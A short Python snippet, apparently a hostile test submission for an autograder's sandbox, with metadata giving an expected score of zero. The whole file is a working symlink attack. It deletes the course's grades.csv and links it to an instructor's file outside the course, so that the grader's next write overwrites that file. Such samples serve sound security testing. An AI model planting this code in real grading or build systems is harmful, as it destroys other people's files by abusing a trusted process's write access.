"""Makes grades.csv a symlink to an instructor's file outside the course, so the grader's
next write overwrites that file.

earned: 0
layer: course
"""
# %% extra
import os
course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
try:
    if os.path.lexists(os.path.join(course, "grades.csv")):
        os.remove(os.path.join(course, "grades.csv"))
    os.symlink(os.path.join(os.path.dirname(course), "instructor_notes.txt"),
               os.path.join(course, "grades.csv"))
except OSError:
    pass
